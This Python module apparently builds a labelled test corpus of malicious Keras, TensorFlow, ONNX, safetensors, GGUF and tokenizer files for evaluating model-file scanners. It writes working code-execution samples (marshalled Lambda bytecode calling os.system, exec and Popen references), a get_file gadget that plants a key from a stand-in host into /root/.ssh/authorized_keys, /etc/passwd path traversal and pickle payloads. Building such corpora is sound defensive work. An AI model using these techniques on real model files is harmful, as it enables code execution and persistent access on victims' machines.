"""Malicious Keras, TF SavedModel, ONNX, safetensors, GGUF and tokenizer samples."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import types
from pathlib import Path

from . import protobuf as pb
from . import templates, ziptricks
from .malicious_pickle import os_system
from .manifest import Corpus

KERAS_LAMBDA = "https://nvd.nist.gov/vuln/detail/CVE-2024-3660"
KERAS_1550 = "https://nvd.nist.gov/vuln/detail/CVE-2025-1550"
KERAS_8747 = "https://nvd.nist.gov/vuln/detail/CVE-2025-8747"
TF_SECURITY = "https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md"
ONNX_TRAVERSAL = "https://nvd.nist.gov/vuln/detail/CVE-2024-27318"
ONNX_CONTRIB = "https://github.com/microsoft/onnxruntime-extensions/blob/main/docs/pyop.md"
SAFETENSORS = "https://github.com/huggingface/safetensors#format"


def lambda_bytecode() -> str:
    """Marshalled bytecode of a lambda, compiled (never called), base64 as Keras stores it."""
    source = "lambda x: __import__('os').system('id') or x"
    module = compile(source, "<lambda>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


def _dense(name: str, units: int, activation: object = "relu") -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": name, "units": units, "activation": activation, "use_bias": True},
    }


def keras3_config(layers: list[dict[str, object]]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": "sequential", "layers": layers},
    }
    return json.dumps(config).encode()


def _weights_h5() -> bytes:
    import h5py
    import numpy as np

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        h5.create_dataset("layers/dense/vars/0", data=np.zeros((4, 2), dtype="float32"))
        h5.create_dataset("layers/dense/vars/1", data=np.zeros(2, dtype="float32"))
    return buffer.getvalue()


def keras3_archive(config: bytes) -> bytes:
    meta = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"})
    return ziptricks.build(
        [
            ("metadata.json", meta.encode()),
            ("config.json", config),
            ("model.weights.h5", _weights_h5()),
        ],
        method=8,
    )


def keras_h5(path: Path, layers: list[dict[str, object]]) -> None:
    import h5py
    import numpy as np

    config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
    with h5py.File(path, "w") as h5:
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.attrs["model_config"] = json.dumps(config)
        weights = h5.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense"])
        dense = weights.create_group("dense/dense")
        dense.create_dataset("kernel:0", data=np.zeros((4, 2), dtype="float32"))


def add_keras(corpus: Corpus) -> None:
    code = lambda_bytecode()
    h5_lambda = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": [code, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "arguments": {},
        },
    }
    path = "malicious/keras/lambda_marshal.h5"
    keras_h5(corpus.path(path), [{"class_name": "Dense", "config": {"units": 2}}, h5_lambda])
    corpus.record(
        path,
        format="keras-h5",
        technique="Lambda marshal bytecode",
        malicious=True,
        reference=KERAS_LAMBDA,
        note="base64 marshal code in model_config",
    )
    v3_lambda = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": code, "defaults": None, "closure": None},
            },
        },
    }
    rows = [
        ("lambda.keras", [_dense("d", 2), v3_lambda], "Lambda marshal bytecode", KERAS_LAMBDA),
        (
            "module_subprocess.keras",
            [
                {
                    "module": "subprocess",
                    "class_name": "Popen",
                    "registered_name": None,
                    "config": {"args": ["id"]},
                }
            ],
            "module reference outside keras",
            KERAS_1550,
        ),
        (
            "activation_os_system.keras",
            [
                _dense(
                    "d",
                    2,
                    {
                        "module": "os",
                        "class_name": "function",
                        "config": "system",
                        "registered_name": "system",
                    },
                )
            ],
            "function reference",
            KERAS_1550,
        ),
        (
            "builtins_exec_function.keras",
            [
                _dense(
                    "d",
                    2,
                    {
                        "module": "builtins",
                        "class_name": "function",
                        "config": "exec",
                        "registered_name": "exec",
                    },
                )
            ],
            "function reference",
            KERAS_1550,
        ),
        (
            "get_file_gadget.keras",
            [
                {
                    "module": "keras.utils",
                    "class_name": "get_file",
                    "registered_name": "get_file",
                    "config": {
                        "fname": "/root/.ssh/authorized_keys",
                        "origin": "http://203.0.113.9/key",
                    },
                }
            ],
            "keras gadget",
            KERAS_8747,
        ),
    ]
    for name, layers, technique, ref in rows:
        corpus.write(
            f"malicious/keras/{name}",
            keras3_archive(keras3_config(layers)),
            format="keras-v3",
            technique=technique,
            malicious=True,
            reference=ref,
        )


TF_BENIGN_NODES = [
    pb.node_def("x", "Placeholder", attrs={"dtype": 1}),
    pb.node_def("w", "VarHandleOp", attrs={"shared_name": "w"}),
    pb.node_def("w/read", "ReadVariableOp", ["w"]),
    pb.node_def("y", "MatMul", ["x", "w/read"]),
    pb.node_def("saver/filename", "Const", attrs={"value": b"model"}),
    pb.node_def("saver/SaveV2", "SaveV2", ["saver/filename"]),
    pb.node_def("saver/RestoreV2", "RestoreV2", ["saver/filename"]),
    pb.node_def("saver/Merge", "MergeV2Checkpoints", ["saver/filename"]),
    pb.node_def("saver/sharded", "ShardedFilename", ["saver/filename"]),
    pb.node_def("call", "StatefulPartitionedCall", ["x"]),
]


def tf_saved_model(extra_nodes: list[bytes], functions: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    graph = pb.graph_def([*TF_BENIGN_NODES, *extra_nodes], functions)
    return pb.saved_model(graph)


def write_saved_model(corpus: Corpus, rel_dir: str, data: bytes, **label: str | bool) -> None:
    corpus.path(f"{rel_dir}/variables/variables.index").write_bytes(b"\x00" * 16)
    corpus.write(f"{rel_dir}/saved_model.pb", data, scope=rel_dir, **label)


def add_tensorflow(corpus: Corpus) -> None:
    rows = [
        ("read_file", [pb.node_def("leak", "ReadFile", ["saver/filename"])], [], "ReadFile"),
        (
            "write_file",
            [pb.node_def("drop", "WriteFile", ["saver/filename", "x"])],
            [],
            "WriteFile",
        ),
        (
            "matching_files",
            [pb.node_def("ls", "MatchingFiles", ["saver/filename"])],
            [],
            "MatchingFiles",
        ),
        (
            "pyfunc_in_function",
            [],
            [
                pb.function_def(
                    "__inference_fn_12", [pb.node_def("py", "PyFunc", attrs={"token": "pyfunc_0"})]
                )
            ],
            "PyFunc",
        ),
        (
            "eager_pyfunc",
            [pb.node_def("py", "EagerPyFunc", ["x"], {"token": "pyfunc_1"})],
            [],
            "PyFunc",
        ),
        (
            "read_file_in_function",
            [],
            [pb.function_def("__inference_leak_7", [pb.node_def("rf", "ReadFile", ["p"])])],
            "ReadFile",
        ),
    ]
    for name, nodes, functions, technique in rows:
        write_saved_model(
            corpus,
            f"malicious/tensorflow/{name}",
            tf_saved_model(nodes, functions),
            format="tf-savedmodel",
            technique=technique,
            malicious=True,
            reference=TF_SECURITY,
            note="hand-encoded saved_model.pb",
        )


def _onnx_model(nodes: list[object], inits: list[object], domains: dict[str, int]) -> object:
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
    graph = helper.make_graph(nodes, "g", [x], [y], initializer=inits)
    opsets = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, v) for d, v in domains.items()]
    return helper.make_model(graph, opset_imports=opsets, producer_name="bench")


def _external(location: str) -> object:
    from onnx import TensorProto, helper

    tensor = helper.make_tensor("w", TensorProto.FLOAT, [4], [0.0] * 4)
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def add_onnx(corpus: Corpus) -> None:
    import onnx
    from onnx import TensorProto, helper

    add = helper.make_node("Add", ["x", "w"], ["y"])
    identity = helper.make_node("Identity", ["x"], ["y"])
    pickled = helper.make_tensor(
        "blob", TensorProto.UINT8, [len(os_system(4))], os_system(4), raw=True
    )
    rows = [
        (
            "dotdot_external",
            [add],
            [_external("../../../../../etc/passwd")],
            {},
            "external data ../ escape",
            ONNX_TRAVERSAL,
        ),
        (
            "absolute_external",
            [add],
            [_external("/etc/passwd")],
            {},
            "external data absolute path",
            ONNX_TRAVERSAL,
        ),
        (
            "symlink_external",
            [add],
            [_external("weights.bin")],
            {},
            "external data symlink escape",
            ONNX_TRAVERSAL,
        ),
        (
            "pyop_contrib",
            [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")],
            [],
            {"ai.onnx.contrib": 1},
            "ai.onnx.contrib PyOp",
            ONNX_CONTRIB,
        ),
        (
            "custom_domain",
            [helper.make_node("Exec", ["x"], ["y"], domain="com.attacker.ops")],
            [],
            {"com.attacker.ops": 1},
            "custom operator domain",
            ONNX_CONTRIB,
        ),
        (
            "pickle_initializer",
            [identity],
            [pickled],
            {},
            "pickle in initializer",
            "https://github.com/protectai/modelscan/blob/main/docs/model_serialization_attacks.md",
        ),
    ]
    for name, nodes, inits, domains, technique, ref in rows:
        rel_dir = f"malicious/onnx/{name}"
        model = _onnx_model(nodes, inits, domains)
        target = corpus.path(f"{rel_dir}/model.onnx")
        onnx.save_model(model, str(target))  # type: ignore[arg-type]
        if name == "symlink_external":
            (target.parent / "weights.bin").symlink_to("/etc/passwd")
        corpus.record(
            f"{rel_dir}/model.onnx",
            format="onnx",
            technique=technique,
            malicious=True,
            reference=ref,
            scope=rel_dir,
        )


def _safetensors(
    header: bytes | dict[str, object], data: bytes, length: int | None = None
) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def add_safetensors(corpus: Corpus) -> None:
    t = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    data = b"\x00" * 32
    rows = [
        (
            "length_past_eof.safetensors",
            _safetensors({"w": t}, data, 1 << 40),
            "header length past EOF",
        ),
        (
            "overlapping.safetensors",
            _safetensors({"a": t, "b": {**t, "data_offsets": [8, 24]}}, data),
            "overlapping offsets",
        ),
        ("bad_dtype.safetensors", _safetensors({"w": {**t, "dtype": "F128"}}, data), "bad dtype"),
        (
            "size_mismatch.safetensors",
            _safetensors({"w": {**t, "shape": [8]}}, data),
            "shape/size mismatch",
        ),
        (
            "out_of_bounds.safetensors",
            _safetensors({"w": {**t, "shape": [64], "data_offsets": [0, 256]}}, data),
            "offsets out of bounds",
        ),
        (
            "invalid_json.safetensors",
            _safetensors(b'{"w": {"dtype": "F32", ', data),
            "invalid JSON",
        ),
        (
            "invalid_utf8.safetensors",
            _safetensors(
                b'{"w\xff\xfe": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}', data
            ),
            "invalid UTF-8",
        ),
        (
            "huge_metadata.safetensors",
            _safetensors(
                {"__metadata__": {f"k{i}": "v" * 64 for i in range(120_000)}, "w": t}, data
            ),
            "unbounded metadata",
        ),
    ]
    for name, blob, technique in rows:
        corpus.write(
            f"malicious/safetensors/{name}",
            blob,
            format="safetensors",
            technique=technique,
            malicious=True,
            reference=SAFETENSORS,
        )


def gguf_file(path: Path, template: str | list[dict[str, str]]) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name("bench-tiny")
    writer.add_context_length(128)
    writer.add_tokenizer_model("gpt2")
    writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.zeros((8, 4), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def tokenizer_config(template: str | list[dict[str, str]]) -> bytes:
    config = {
        "add_bos_token": True,
        "bos_token": "<s>",
        "eos_token": "</s>",
        "model_max_length": 4096,
        "tokenizer_class": "LlamaTokenizer",
        "chat_template": template,
    }
    return json.dumps(config, indent=2).encode()


def add_templates(corpus: Corpus) -> None:
    for name, (template, technique) in templates.MALICIOUS.items():
        rel = f"malicious/gguf/{name}.gguf"
        gguf_file(corpus.path(rel), template)
        corpus.record(
            rel, format="gguf", technique=technique, malicious=True, reference=templates.CVE
        )
    named = [
        {"name": "default", "template": templates.CHATML},
        {"name": "tool_use", "template": templates.MALICIOUS["cycler_globals"][0]},
    ]
    gguf_file(corpus.path("malicious/gguf/named_tool_use.gguf"), named)
    corpus.record(
        "malicious/gguf/named_tool_use.gguf",
        format="gguf",
        technique="named template",
        malicious=True,
        reference=templates.CVE,
        note="payload in tokenizer.chat_template.tool_use",
    )
    for name in ("subclasses_builtins", "lipsum_globals", "attr_escaped", "attr_concatenated"):
        template, technique = templates.MALICIOUS[name]
        corpus.write(
            f"malicious/tokenizer/{name}/tokenizer_config.json",
            tokenizer_config(template),
            format="tokenizer-config",
            technique=technique,
            malicious=True,
            reference=templates.CVE,
        )
    corpus.write(
        "malicious/tokenizer/named_list/tokenizer_config.json",
        tokenizer_config(named),
        format="tokenizer-config",
        technique="named template",
        malicious=True,
        reference=templates.CVE,
    )
